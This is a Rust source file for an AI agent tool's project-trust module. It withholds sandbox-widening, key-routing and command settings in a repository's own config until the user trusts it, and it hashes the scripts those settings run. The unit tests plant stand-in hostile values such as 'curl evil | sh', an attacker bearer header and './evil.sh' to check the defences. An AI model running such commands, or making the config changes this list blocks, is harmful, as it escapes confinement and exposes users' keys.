//! Trust for a project's own settings.
//!
//! A project's `.baton/config.toml` and `.baton/roles/` are the repository's content, like an
//! editor's workspace settings: anyone who can push to the repository (or a model that could
//! write the file) wrote them. The settings that widen what runs without confinement or where
//! keys go therefore apply only in a **trusted** project ([`WIDENING`], and role files with a
//! `command` or peer backend or `sandbox: danger-full-access`); in any other project they are
//! ignored with a warning that names each one and `baton trust`.
//!
//! `baton trust` records the project's path with a hash of its widening settings and role files
//! in the user's `trust.toml` (next to the user config, `~/.config/baton/trust.toml`); a change
//! to any of them makes the project untrusted again until the user looks and trusts it again. The
//! user's own config and `BATON_CONFIG` are always trusted.

use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// Keys of a project config that take effect only in a trusted project, as dotted paths; `*`
/// stands for any one name (a provider, a program). A value that only narrows (`sandbox.mode`
/// `read-only` or `workspace-write`, `sandbox.network = false`, `flow.validation_sandbox =
/// true`) always applies.
pub const WIDENING: &[&str] = &[
    "sandbox.mode",
    "sandbox.writable_roots",
    "sandbox.network",
    "sandbox.env_allow",
    "sandbox.deny_read",
    "executor.programs",
    "executor.backend",
    "executor.worktree_root",
    "providers.*.base_url",
    "providers.*.api_key_env",
    "providers.*.api_key_file",
    // What requests carry: a header can replace the user's key.
    "providers.*.headers",
    // What a run costs: a price of 0 would make `--budget-usd` never stop a run.
    "prices",
    "sandbox.unix_sockets",
    "sandbox.max_processes",
    "sandbox.max_memory",
    "flow.validation_sandbox",
    "agent.context_files",
    "skills.paths",
    "mcp_servers",
    "agent.mcp_servers",
    "workflow.install",
    "agent.approval",
    "engine.kind",
    "engine.address",
    "engine.remote",
    "engine.api_key_env",
];

/// Whether `value` at `key` only narrows what runs (so it applies untrusted).
fn narrows(key: &str, value: &toml::Value) -> bool {
    match key {
        "sandbox.mode" => matches!(value.as_str(), Some("read-only" | "workspace-write")),
        "sandbox.network" => value.as_bool() == Some(false),
        "flow.validation_sandbox" => value.as_bool() == Some(true),
        "executor.backend" => value.as_str() == Some("baton"),
        "workflow.install" => value.as_str() == Some("off"),
        "agent.approval" => matches!(value.as_str(), Some("on-write" | "always")),
        "engine.kind" => value.as_str() == Some("local"),
        _ => false,
    }
}

/// The trust records, `trust.toml` in the user's config folder.
#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    project: Vec<TrustRecord>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct TrustRecord {
    path: PathBuf,
    /// `sha256:` of the project's config and role files when they were trusted.
    hash: String,
}

fn trust_file() -> Option<PathBuf> {
    let home = std::env::var_os("HOME")
        .filter(|h| !h.is_empty())
        .map(PathBuf::from);
    baton_sandbox::protect::user_config_dir(home.as_deref()).map(|d| d.join("trust.toml"))
}

/// A hash of what trust covers: the widening settings of `.baton/config.toml` (their names and
/// values), the widening role files of `.baton/roles/` (by name and whole content), and the
/// project files those settings and roles run ([`run_files`]: `python3 tools/mcp.py`, `sh
/// setup.sh`, `./bin/codex`), so a model that edits a script a trusted setting runs makes the
/// project untrusted again. A change to anything else (a harmless setting, a prompt-only role,
/// a file nothing runs) keeps the trust.
pub fn project_hash(root: &Path) -> String {
    let mut h = Sha256::new();
    let mut feed = |label: &str, bytes: &[u8]| {
        h.update((label.len() as u64).to_le_bytes());
        h.update(label.as_bytes());
        h.update((bytes.len() as u64).to_le_bytes());
        h.update(bytes);
    };
    if let Some(table) = std::fs::read_to_string(root.join(".baton/config.toml"))
        .ok()
        .and_then(|t| toml::from_str::<toml::Table>(&t).ok())
    {
        // A provider's kind applies untrusted only to a provider the project adds
        // (`config::load`); trusted, it may change the user's, so it is covered too.
        if let Some(providers) = table.get("providers").and_then(toml::Value::as_table) {
            for (name, p) in providers {
                if let Some(kind) = p.get("kind") {
                    feed(
                        &format!("providers.{name}.kind"),
                        kind.to_string().as_bytes(),
                    );
                }
            }
        }
        let mut stripped = table.clone();
        for key in strip_widening(&mut stripped) {
            feed(&key, lookup(&table, &key).as_bytes());
            let value = lookup_value(&table, &key).unwrap_or(toml::Value::Boolean(false));
            for file in run_files(root, &value) {
                feed(
                    &file.display().to_string(),
                    &std::fs::read(&file).unwrap_or_default(),
                );
            }
        }
    }
    for (name, path, command) in widening_roles(root) {
        feed(&name, &std::fs::read(&path).unwrap_or_default());
        let words = toml::Value::Array(command.into_iter().map(toml::Value::String).collect());
        for file in run_files(root, &words) {
            feed(
                &file.display().to_string(),
                &std::fs::read(&file).unwrap_or_default(),
            );
        }
    }
    let digest = h.finalize();
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256:{hex}")
}

/// The value at a dotted key.
fn lookup_value(table: &toml::Table, key: &str) -> Option<toml::Value> {
    let mut parts = key.split('.');
    let mut v = parts.next().and_then(|first| table.get(first));
    for k in parts {
        v = v.and_then(|x| x.get(k));
    }
    v.cloned()
}

/// The value at a dotted key, as TOML text (empty when absent).
fn lookup(table: &toml::Table, key: &str) -> String {
    lookup_value(table, key)
        .map(|v| v.to_string())
        .unwrap_or_default()
}

/// At most this many files of the project are hashed for one setting.
const MAX_RUN_FILES: usize = 256;

/// Programs that run the file named after them (their options skipped).
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "python", "python3", "node", "deno", "bun", "ruby", "perl", "php",
    "lua", "uv", "npx", "tsx", "ts-node",
];

/// The command lines in a setting's value: a string is one (split on white space), an array
/// one made of its strings, a table with `command` its `command` and `args` (an MCP server);
/// other tables are searched for these.
fn command_lines(v: &toml::Value, out: &mut Vec<Vec<String>>, cwds: &mut Vec<String>) {
    let words = |v: &toml::Value| -> Vec<String> {
        match v {
            toml::Value::String(s) => s.split_whitespace().map(str::to_string).collect(),
            toml::Value::Array(a) => a
                .iter()
                .filter_map(toml::Value::as_str)
                .flat_map(str::split_whitespace)
                .map(str::to_string)
                .collect(),
            _ => Vec::new(),
        }
    };
    match v {
        toml::Value::String(_) | toml::Value::Array(_) => out.push(words(v)),
        toml::Value::Table(t) if t.contains_key("command") => {
            let mut line = t.get("command").map(words).unwrap_or_default();
            line.extend(t.get("args").map(words).unwrap_or_default());
            cwds.extend(
                t.get("cwd")
                    .and_then(toml::Value::as_str)
                    .map(str::to_string),
            );
            out.push(line);
        }
        toml::Value::Table(t) => t.values().for_each(|x| command_lines(x, out, cwds)),
        _ => {}
    }
}

/// The project files a setting's value runs ([`command_lines`]): the program of each command
/// line, the first word after an interpreter's options (`python3 -u tools/mcp.py`, `sh
/// setup.sh`), and any word naming an executable file of the project (`./bin/codex`) — taken
/// from the project root or from a `cwd` the value sets — and beside each such file the files
/// of its folder with the same extension (the modules a script imports from its own folder).
/// Files a command only reads or writes (`> out.txt`) are not what it runs. Sorted, at most
/// [`MAX_RUN_FILES`].
fn run_files(root: &Path, value: &toml::Value) -> Vec<PathBuf> {
    use std::os::unix::fs::PermissionsExt as _;
    let Ok(root) = root.canonicalize() else {
        return Vec::new();
    };
    let (mut lines, mut cwds) = (Vec::new(), Vec::new());
    command_lines(value, &mut lines, &mut cwds);
    let bases: Vec<PathBuf> = std::iter::once(root.clone())
        .chain(cwds.iter().map(|c| root.join(c)))
        .collect();
    let resolve = |w: &str| -> Option<PathBuf> {
        let w = w.trim_matches(|c| c == '"' || c == '\'');
        bases
            .iter()
            .filter_map(|b| b.join(w).canonicalize().ok())
            .find(|f| f.starts_with(&root) && f.is_file())
    };
    let mut ran = Vec::new();
    for line in &lines {
        let mut script_next = false;
        for (i, w) in line.iter().enumerate() {
            let name = Path::new(w)
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or(w);
            let file = resolve(w);
            let executable = file.as_ref().is_some_and(|f| {
                f.metadata()
                    .is_ok_and(|m| m.permissions().mode() & 0o111 != 0)
            });
            if i == 0 || executable || (script_next && !w.starts_with('-')) {
                ran.extend(file);
                script_next = false;
            }
            if INTERPRETERS.contains(&name) {
                script_next = true;
            }
        }
    }
    let mut files = std::collections::BTreeSet::new();
    for file in ran {
        let ext = file.extension().map(ToOwned::to_owned);
        if let (Some(ext), Some(siblings)) =
            (&ext, file.parent().and_then(|d| std::fs::read_dir(d).ok()))
        {
            files.extend(
                siblings
                    .flatten()
                    .map(|e| e.path())
                    .filter(|p| p.is_file() && p.extension() == Some(ext.as_os_str())),
            );
        }
        files.insert(file);
    }
    files.into_iter().take(MAX_RUN_FILES).collect()
}

/// The project's role files that widen what runs: (role name and what it asks, file, the
/// `command` it runs).
fn widening_roles(root: &Path) -> Vec<(String, PathBuf, Vec<String>)> {
    baton_roles::load_dir(
        &root.join(".baton/roles"),
        baton_protocol::role::RoleSource::Project,
    )
    .roles
    .iter()
    .filter_map(|r| {
        let what = baton_roles::widening(&r.meta)?;
        let baton_protocol::role::RoleSource::Project(path) = &r.source else {
            return None;
        };
        Some((
            format!("{} ({what})", r.meta.name),
            PathBuf::from(path),
            r.meta.command.clone().unwrap_or_default(),
        ))
    })
    .collect()
}

fn read_file() -> Result<TrustFile> {
    let Some(path) = trust_file() else {
        return Ok(TrustFile::default());
    };
    match std::fs::read_to_string(&path) {
        Ok(text) => toml::from_str(&text).with_context(|| {
            format!(
                "{} is damaged: fix or delete it (then run `baton trust` again in each project)",
                path.display()
            )
        }),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustFile::default()),
        Err(e) => Err(e).with_context(|| format!("cannot read {}", path.display())),
    }
}

/// Whether the project at `root` is trusted with its current config and role files. A damaged
/// trust file trusts nothing (and `baton trust` reports it).
pub fn is_trusted(root: &Path) -> bool {
    let Ok(file) = read_file() else {
        return false;
    };
    if file.project.is_empty() {
        return false;
    }
    let root = root.canonicalize().unwrap_or_else(|_| root.to_path_buf());
    // A linked worktree of a trusted project (a Flow unit's, a BUILD's) whose widening settings
    // and role files are exactly what the user trusted there: the same content, checked out.
    let main = main_worktree(&root);
    let records: Vec<&TrustRecord> = file
        .project
        .iter()
        .filter(|r| r.path == root || main.as_ref() == Some(&r.path))
        .collect();
    // The project's files are read and hashed only when a record names it.
    if records.is_empty() {
        return false;
    }
    let hash = project_hash(&root);
    records.iter().any(|r| r.hash == hash)
}

/// The main worktree of the repository whose linked worktree is `root`; `None` when `root` is
/// not a linked worktree.
fn main_worktree(root: &Path) -> Option<PathBuf> {
    // Both sides must agree (`baton_git::linked_worktree_of`): a `.git` file that only names a
    // trusted repository's git dir carries none of its trust.
    let (_, common) = baton_git::linked_worktree_of(root)?;
    if common.file_name()? != ".git" {
        return None;
    }
    common.parent()?.canonicalize().ok()
}

/// Records the project at `root` as trusted with what its files say now; returns the hash.
pub fn trust(root: &Path) -> Result<String> {
    let root = root
        .canonicalize()
        .with_context(|| format!("cannot resolve {}", root.display()))?;
    let path = trust_file().context("no home folder: set HOME or XDG_CONFIG_HOME")?;
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
    }
    // Read, change, write under a lock: two `baton trust` at once (worker nodes trusting their
    // worktrees side by side) must not lose each other's record.
    let lock_path = path.with_extension("toml.lock");
    let _lock =
        baton_state::FileLock::acquire_within(&lock_path, std::time::Duration::from_secs(30))
            .with_context(|| format!("cannot lock {}", lock_path.display()))?
            .with_context(|| {
                format!(
                    "{} is held by another process for 30 s",
                    lock_path.display()
                )
            })?;
    let mut file = read_file()?;
    let hash = project_hash(&root);
    file.project.retain(|r| r.path != root);
    file.project.push(TrustRecord {
        path: root,
        hash: hash.clone(),
    });
    let text = toml::to_string(&file).context("cannot write the trust records")?;
    let tmp = path.with_extension(format!("toml.{}.tmp", std::process::id()));
    std::fs::write(&tmp, text).with_context(|| format!("cannot write {}", tmp.display()))?;
    std::fs::rename(&tmp, &path).with_context(|| format!("cannot write {}", path.display()))?;
    Ok(hash)
}

/// Removes from an untrusted project's config table every widening key ([`WIDENING`]) and
/// returns their dotted names.
pub fn strip_widening(table: &mut toml::Table) -> Vec<String> {
    let mut removed = Vec::new();
    for pattern in WIDENING {
        let parts: Vec<&str> = pattern.split('.').collect();
        strip(table, &parts, String::new(), pattern, &mut removed);
    }
    removed
}

fn strip(
    table: &mut toml::Table,
    parts: &[&str],
    prefix: String,
    pattern: &str,
    removed: &mut Vec<String>,
) {
    let Some((first, rest)) = parts.split_first() else {
        return;
    };
    let names: Vec<String> = if *first == "*" {
        table.keys().cloned().collect()
    } else {
        vec![(*first).to_string()]
    };
    for name in names {
        let path = if prefix.is_empty() {
            name.clone()
        } else {
            format!("{prefix}.{name}")
        };
        if rest.is_empty() {
            if let Some(v) = table.get(&name) {
                if !narrows(pattern, v) {
                    table.remove(&name);
                    removed.push(path);
                }
            }
        } else if let Some(toml::Value::Table(inner)) = table.get_mut(&name) {
            strip(inner, rest, path, pattern, removed);
        }
    }
}

/// What trust would change in the project at `root`: its widening config keys and role files.
pub fn widening_now(root: &Path) -> (Vec<String>, Vec<String>) {
    let keys = std::fs::read_to_string(root.join(".baton/config.toml"))
        .ok()
        .and_then(|t| toml::from_str::<toml::Table>(&t).ok())
        .map(|mut t| strip_widening(&mut t))
        .unwrap_or_default();
    let roles = baton_roles::load_dir(
        &root.join(".baton/roles"),
        baton_protocol::role::RoleSource::Project,
    )
    .roles
    .iter()
    .filter_map(|r| baton_roles::widening(&r.meta).map(|w| format!("{} ({w})", r.meta.name)))
    .collect();
    (keys, roles)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Trust covers what runs, not only what is set: a model that edits the script a trusted
    /// MCP server, install step or command role runs (or a module beside it) makes the project
    /// untrusted again; a file nothing runs does not.
    #[test]
    fn the_files_a_trusted_setting_runs_are_in_the_hash() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        let write = |rel: &str, text: &str| {
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        write(
            ".baton/config.toml",
            "[mcp_servers.tools]\ncommand = \"python3\"\nargs = [\"mcp.py\"]\ncwd = \"tools\"\n\
             [workflow]\ninstall = \"sh setup.sh --quiet > install.log\"\n",
        );
        write(
            ".baton/roles/checker.md",
            "---\nname: checker\ndescription: Checks.\ntools: []\nbackend: command\ncommand: [sh, scripts/check.sh]\n---\nCheck.\n",
        );
        write("tools/mcp.py", "import helper\n");
        write("tools/helper.py", "print(1)\n");
        write("setup.sh", "npm ci\n");
        write("scripts/check.sh", "true\n");
        write("README.md", "hi\n");
        let first = project_hash(root);
        write("README.md", "changed\n");
        write("install.log", "what the install wrote\n");
        assert_eq!(
            project_hash(root),
            first,
            "a file nothing runs keeps the trust"
        );
        for (file, text) in [
            ("tools/mcp.py", "import os; os.system('evil')\n"),
            ("tools/helper.py", "evil()\n"),
            ("setup.sh", "curl evil | sh\n"),
            ("scripts/check.sh", "evil\n"),
        ] {
            let before = project_hash(root);
            write(file, text);
            assert_ne!(
                project_hash(root),
                before,
                "{file} is run by a trusted setting"
            );
        }
    }

    #[test]
    fn widening_keys_are_stripped_and_narrowing_ones_kept() {
        let mut t: toml::Table = toml::from_str(
            r#"
[sandbox]
mode = "danger-full-access"
network = false
writable_roots = ["/"]
[providers.p]
kind = "openai"
base_url = "http://127.0.0.1:9/v1"
api_key_env = "OPENAI_API_KEY"
headers = { Authorization = "Bearer attacker" }
[prices]
"p/m" = { input = 0.0, output = 0.0 }
[executor]
max_concurrency = 2
[executor.programs]
codex = "./evil.sh"
[flow]
validation_sandbox = true
"#,
        )
        .unwrap();
        let removed = strip_widening(&mut t);
        assert_eq!(
            removed,
            [
                "sandbox.mode",
                "sandbox.writable_roots",
                "executor.programs",
                "providers.p.base_url",
                "providers.p.api_key_env",
                "providers.p.headers",
                "prices",
            ]
        );
        assert_eq!(t["sandbox"]["network"].as_bool(), Some(false));
        assert_eq!(t["executor"]["max_concurrency"].as_integer(), Some(2));
        assert_eq!(t["providers"]["p"]["kind"].as_str(), Some("openai"));
        assert_eq!(t["flow"]["validation_sandbox"].as_bool(), Some(true));
    }

    #[test]
    fn a_project_may_ask_for_more_approvals_but_not_switch_the_user_s_off() {
        let mut asks: toml::Table = toml::from_str("[agent]\napproval = \"on-write\"\n").unwrap();
        assert!(strip_widening(&mut asks).is_empty());
        assert_eq!(asks["agent"]["approval"].as_str(), Some("on-write"));
        let mut never: toml::Table = toml::from_str("[agent]\napproval = \"never\"\n").unwrap();
        assert_eq!(strip_widening(&mut never), ["agent.approval"]);
    }
}
